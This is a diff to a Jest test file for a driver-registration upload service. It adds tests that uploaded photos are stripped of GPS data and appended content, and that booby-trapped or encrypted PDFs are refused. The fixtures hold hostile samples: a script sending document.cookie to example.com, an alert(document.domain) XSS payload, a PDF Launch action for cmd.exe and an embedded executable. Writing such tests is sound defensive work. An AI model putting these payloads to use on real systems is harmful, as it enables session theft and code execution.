@@ -1,7 +1,10 @@
+import { createHash } from 'node:crypto';
 import fs from 'node:fs';
 import path from 'node:path';
+import zlib from 'node:zlib';
 import net, { type AddressInfo } from 'node:net';
 import { driverDocumentFields, type DriverDocumentField } from '@chalein/shared/lib/validation/driver-registration';
+import { uploadedFileMessages } from '@chalein/shared/lib/validation/uploaded-files';
 import { buildApp } from '../app';
 import { migrateToLatest } from '../db/migrate';
 import { seedDatabase } from '../db/seed';
@@ -11,7 +14,16 @@ import { openSecondHandle, readStoredText } from '../test-support/test-database'
 import { DRIVER_DOCUMENTS_FOLDER_NAME } from '../uploads/driver-document-storage';
 import { waitUntil } from '../../../tools/jest/wait-until';
 import { encodeMultipart } from '../test-support/form-fixtures';
-import { buildJpeg, buildPng } from '../test-support/image-fixtures';
+import {
+  JPEG_APP1,
+  JPEG_COM,
+  buildExifWithGps,
+  buildJpeg,
+  buildPng,
+  describePicture,
+  insertJpegSegment,
+} from '../test-support/image-fixtures';
+import { buildPdf } from '../test-support/pdf-fixtures';
 
 // Real SQLite files, real files on disk, requests through Fastify's inject (and one over a real socket).
 
@@ -20,7 +32,7 @@ const BENGALURU = 'Bengaluru';
 
 const jpegBytes = buildJpeg();
 const pngBytes = buildPng();
-const pdfBytes = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1');
+const pdfBytes = buildPdf();
 
 type FileSpec = { bytes: Buffer; name: string; type: string };
 
@@ -158,8 +170,12 @@ describe('driver registration', () => {
       // the server's own name and the type found in the bytes, never the uploaded name
       expect(document.stored_name).toMatch(/^[0-9a-f-]{36}\.(jpg|png|pdf)$/);
       expect(document.content_type).toBe(spec.type);
-      expect(fs.readFileSync(file).equals(spec.bytes)).toBe(true);
-      expect(document.byte_size).toBe(spec.bytes.length);
+      const stored = fs.readFileSync(file);
+      if (spec.type === 'application/pdf') expect(stored.equals(spec.bytes)).toBe(true);
+      // a picture is kept encoded anew (docs/decisions/upload-limits-and-file-checks.md): the same picture, other bytes
+      else expect(describePicture(stored)).toEqual(describePicture(spec.bytes));
+      expect(document.byte_size).toBe(stored.length);
+      expect(document.sha256).toBe(createHash('sha256').update(stored).digest('hex'));
       expect(fs.statSync(file).mode & 0o777).toBe(0o600);
     }
     expect(listStoredFiles().some((name) => name.endsWith('.part'))).toBe(false);
@@ -262,6 +278,91 @@ describe('driver registration', () => {
     expect(listStoredFiles()).toEqual(before);
   });
 
+  it('keeps a phone photo without its GPS position, its comment or the HTML page appended to it', async () => {
+    const html = '<html><body><script>fetch("https://example.com/?"+document.cookie)</script></body></html>';
+    // taken sideways in Bengaluru: EXIF orientation 6 and the GPS position, an HTML comment, an HTML page after the end
+    const photo = Buffer.concat([
+      insertJpegSegment(
+        insertJpegSegment(buildJpeg(40, 24), JPEG_COM, Buffer.from(html)),
+        JPEG_APP1,
+        buildExifWithGps(6, [12, 58, 20], [77, 35, 40]),
+      ),
+      Buffer.from(html),
+    ]);
+    const fields = validFields();
+    const response = await postRegistration({
+      fields,
+      files: { ...documentFiles, drivingLicenseFrontPhoto: { bytes: photo, name: 'licence-front.jpg', type: 'image/jpeg' } },
+    });
+    expect(response.statusCode).toBe(201);
+    const row = await readRegistrationRow(fields.contactNumber!);
+    const document = await testApp.app.db
+      .selectFrom('driver_documents')
+      .selectAll()
+      .where('registration_id', '=', row!.id)
+      .where('document_type', '=', 'drivingLicenseFrontPhoto')
+      .executeTakeFirstOrThrow();
+    const stored = fs.readFileSync(path.join(documentsDir, document.stored_name));
+    for (const trace of ['<script', 'Exif', 'PhoneCo', 'GPS']) expect(stored.includes(Buffer.from(trace, 'latin1'))).toBe(false);
+    // turned upright before its orientation tag went
+    expect(describePicture(stored)).toEqual({ type: 'jpeg', width: 24, height: 40 });
+    expect(document).toMatchObject({ content_type: 'image/jpeg', byte_size: stored.length });
+  });
+
+  it('refuses PDFs that carry JavaScript, a Launch action, an embedded file, HTML between objects or bytes after %%EOF', async () => {
+    const before = listStoredFiles();
+    const html = '<html><script>alert(document.domain)</script></html>\n';
+    const pdf = (bytes: Buffer, name: string): FileSpec => ({ bytes, name, type: 'application/pdf' });
+    const embedded = ['<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream', '<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>'];
+    const response = await postRegistration({
+      fields: validFields(),
+      files: {
+        ...documentFiles,
+        chequeBook: pdf(buildPdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }), 'cheque-book.pdf'),
+        registrationCertificateNoFrontPhoto: pdf(buildPdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' }), 'rc.pdf'),
+        vehicleInsurancePhoto: pdf(
+          buildPdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >>', objects: embedded }),
+          'insurance.pdf',
+        ),
+        drivingLicenseBackPhoto: pdf(buildPdf({ objects: ['<< /Producer (x) >>'], between: html }), 'licence-back.pdf'),
+        chequePhoto: pdf(buildPdf({ after: html }), 'cheque.pdf'),
+      },
+    });
+    expect(response.statusCode).toBe(400);
+    const refused = uploadedFileMessages.documentPdfNotPlain;
+    expect(response.json().errors).toEqual({
+      chequeBook: refused,
+      registrationCertificateNoFrontPhoto: refused,
+      vehicleInsurancePhoto: refused,
+      drivingLicenseBackPhoto: refused,
+      chequePhoto: refused,
+    });
+    expect(listStoredFiles()).toEqual(before);
+  });
+
+  it('refuses an encrypted PDF and an oversized picture, each with its own message', async () => {
+    const before = listStoredFiles();
+    const encrypted = buildPdf({ objects: ['<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>'], trailer: '/Encrypt 6 0 R' });
+    const huge = buildPng(4, 4);
+    huge.writeUInt32BE(13_000, 16);
+    huge.writeUInt32BE(13_000, 20);
+    huge.writeUInt32BE(zlib.crc32(huge.subarray(12, 29)), 29);
+    const response = await postRegistration({
+      fields: validFields(),
+      files: {
+        ...documentFiles,
+        vehicleInsurancePhoto: { bytes: encrypted, name: 'insurance.pdf', type: 'application/pdf' },
+        adharCardBackPhoto: { bytes: huge, name: 'aadhaar-back.png', type: 'image/png' },
+      },
+    });
+    expect(response.statusCode).toBe(400);
+    expect(response.json().errors).toEqual({
+      vehicleInsurancePhoto: uploadedFileMessages.documentPdfProtected,
+      adharCardBackPhoto: uploadedFileMessages.pictureTooLarge,
+    });
+    expect(listStoredFiles()).toEqual(before);
+  });
+
   it('refuses mismatched account and licence numbers with the spec messages', async () => {
     const response = await postRegistration({
       fields: validFields({ reBankAccNo: '123456789013', reDrivingLicenseNumber: 'KA01 20191234568' }),
@@ -341,7 +442,7 @@ describe('driver registration', () => {
   it('answers a body cut off in the middle of a document with 400, and keeps no part of it', async () => {
     const before = listStoredFiles();
     const { body, contentType } = await encodeRegistration({ fields: validFields(), files: documentFiles });
-    const cut = body.subarray(0, body.indexOf(Buffer.from('%PDF-1.4')) + 20);
+    const cut = body.subarray(0, body.indexOf(Buffer.from('%PDF-')) + 20);
     const response = await testApp.app.inject({
       method: 'POST',
       url: '/api/new-registration',
@@ -478,7 +579,7 @@ describe('a driver whose connection drops in the middle of the upload', () => {
       );
       // half the body, cut in the middle of a document, then the connection is gone: once the server is storing
       // that document (its .part file is there)
-      socket.write(body.subarray(0, body.indexOf(Buffer.from('%PDF-1.4')) + 20));
+      socket.write(body.subarray(0, body.indexOf(Buffer.from('%PDF-')) + 20));
       const documentsDir = path.join(privateDir, DRIVER_DOCUMENTS_FOLDER_NAME);
       const listDocuments = () => (fs.existsSync(documentsDir) ? fs.readdirSync(documentsDir) : []);
       await waitUntil(() => listDocuments().some((name) => name.endsWith('.part')), 'the server to start storing the upload');
